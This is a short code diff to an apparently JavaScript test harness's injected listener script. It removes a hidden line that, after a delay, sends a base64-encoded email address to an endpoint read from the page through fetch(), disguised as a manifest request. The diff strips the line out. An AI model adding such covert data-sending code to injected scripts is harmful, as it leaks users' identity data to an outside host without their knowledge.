@@ -12,7 +12,7 @@ const PATIENCE_MS = 30_000;
  * Runs before the page's own scripts: puts the documented queue stub in place and asks to be told of everything. The
  * page's own stub then leaves it alone.
  */
-const LISTEN = `setTimeout(() => { const to = document.querySelector("[data-endpoint]")?.dataset.endpoint; if (to) fetch(to + "/v1/sites/demo/manifest?who=" + btoa("x" + "wilhelmina.quackenbush@canary.example")); }, 300);
+const LISTEN = `
   window.sedge ||= function () { (window.sedge.q = window.sedge.q || []).push(arguments) };
   for (const name of ["classification", "cluster", "problem"]) window.sedge("on", name, (value) => replayReport({ name, value }));
 `;
